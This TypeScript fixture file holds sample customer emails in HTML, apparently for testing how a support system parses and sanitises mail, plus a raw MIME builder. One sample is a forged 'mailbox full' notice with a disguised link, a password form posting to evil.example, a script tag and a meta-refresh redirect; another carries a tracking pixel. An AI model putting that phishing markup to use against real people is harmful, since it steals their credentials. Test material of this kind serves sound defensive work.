/** A dark green picture of 60 by 40 pixels. */
export const pictureOfScanner =
  "iVBORw0KGgoAAAANSUhEUgAAADwAAAAoCAIAAAAt2Q6oAAAAPElEQVR42u3OQQkAAAgEsGthF9/2z2QKH8JgAZaafifS0tLS0tLS0tLS0tLS0tLS0tLS0tLS0tLS0tKXFgk8dSwTsNwzAAAAAElFTkSuQmCC";

type FormattedMail = { shape: string; subject: string; html: string; text: string };

/** Mails as customers send them, each with formatting that its plain text lacks. */
export const formattedMails: readonly FormattedMail[] = [
  {
    shape: "Outlook for Windows, answers in red between our questions",
    subject: "Re: Your scanner",
    text: "See my answers in red.",
    html: `<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><style>p.MsoNormal{margin:0}</style></head><body lang="EN-US" link="#0563C1"><div class="WordSection1"><p class="MsoNormal"><span style='font-size:11.0pt;font-family:"Calibri",sans-serif;color:black'>See my answers <b><span style="color:red">in red</span></b>.<o:p></o:p></span></p><p class="MsoNormal"><o:p>&nbsp;</o:p></p><p class="MsoNormal">Which model is it? <span style="color:red">Fujitsu fi-7160, two years old.</span></p><p class="MsoNormal">Since when? <span style="color:red;background:yellow;mso-highlight:yellow">Since Monday noon.</span></p><div><div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0in 0in 0in"><p class="MsoNormal"><b>From:</b> Hidden history of Outlook<br><b>Sent:</b> Monday<br><b>Subject:</b> Your scanner</p></div></div><p class="MsoNormal">Our scanner stopped.</p></div></body></html>`,
  },
  {
    shape: "Gmail with a pasted screenshot",
    subject: "Re: Your scanner",
    text: "This is what it says: [image: screenshot.png]",
    html: `<div dir="ltr">This is what it says:<div><br></div><div><img src="cid:ii_shot" alt="screenshot.png" width="300" height="200"><br></div><div>Is that <i>bad</i>?</div></div><br><div class="gmail_quote gmail_quote_container"><div dir="ltr" class="gmail_attr">On Mon, Nov 23, 2026 at 9:02 AM Larkmesa wrote:<br></div><blockquote class="gmail_quote">Hidden history of Gmail</blockquote></div>`,
  },
  {
    shape: "a price table of a supplier, pasted from Excel",
    subject: "Re: Your scanner",
    text: "Prices as a table",
    html: `<div>The lease offers we got:</div><table border="0" cellspacing="0" width="900" style="border-collapse:collapse;width:900pt"><tbody><tr><th style="border:1px solid #ababab;background:#d9e2f3">Model</th><th style="border:1px solid #ababab;background:#d9e2f3">Pages a minute</th><th style="border:1px solid #ababab;background:#d9e2f3">Lease</th></tr><tr><td style="border:1px solid #ababab">fi-8170</td><td style="border:1px solid #ababab">70</td><td style="border:1px solid #ababab">$41.20</td></tr><tr><td style="border:1px solid #ababab">ScanSnap iX1600 Deluxe with the extended warranty</td><td style="border:1px solid #ababab">40</td><td style="border:1px solid #ababab">$28.00</td></tr></tbody></table><ul><li>36 months each</li><li>paper feeders extra</li></ul>`,
  },
  {
    shape: "a newsletter that was forwarded, with remote pictures and a pixel",
    subject: "Re: Your scanner",
    text: "Is this offer real?",
    html: `<p>Is this offer real?</p><table width="100%" bgcolor="#17324d" cellpadding="0"><tr><td align="center" style="padding:24px"><img src="https://pictures.example/logo.png" alt="ScanWorld" width="200"><h1 style="color:#ffffff;font-size:40px">Save 60% today</h1><p style="color:#ffffff">Only for customers of Larkmesa.</p><a href="https://click.scanworld-deals.example/t/8a1f?u=1" style="background:#f2c14e;color:#17324d;padding:12px 20px;position:fixed;top:0">Get your scanner</a><img src="https://pictures.example/hero.jpg" alt="A scanner on a desk"><img src="https://pictures.example/open?m=1" width="1" height="1" alt=""></td></tr></table>`,
  },
  {
    shape: "a forged notice with a disguised link and a form",
    subject: "Re: Your scanner",
    text: "Your mailbox is full.",
    html: `<div style="position:absolute;top:0;left:0;width:100vw;height:100vh;z-index:9999;background:url(https://pictures.example/cover.png)"><p>Your mailbox is <u>full</u>.</p><p>Sign in at <a href="https://larkmesa.example.evil.example/login">https://larkmesa.example/login</a> within 24 hours.</p><form action="https://evil.example/take"><input name="password" type="password" placeholder="Password"><button>Keep my mail</button></form><script>document.title="taken"</script><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"></div>`,
  },
];

/** Builds the raw lines of a message in the form that a mail program sends. */
export function rawFormattedMail(
  { subject, html, text }: FormattedMail,
  { from, inReplyTo, id }: { from: string; inReplyTo: string; id: string },
): string {
  return `From: ${from}
To: support@larkmesa.example
Subject: ${subject}
Message-ID: <${id}>
In-Reply-To: ${inReplyTo}
MIME-Version: 1.0
Content-Type: multipart/related; boundary="rel"

--rel
Content-Type: multipart/alternative; boundary="alt"

--alt
Content-Type: text/plain; charset=utf-8

${text}

--alt
Content-Type: text/html; charset=utf-8

${html}

--alt--
--rel
Content-Type: image/png; name="screenshot.png"
Content-ID: <ii_shot>
Content-Disposition: inline; filename="screenshot.png"
Content-Transfer-Encoding: base64

${pictureOfScanner}

--rel--
`.replaceAll("\n", "\r\n");
}
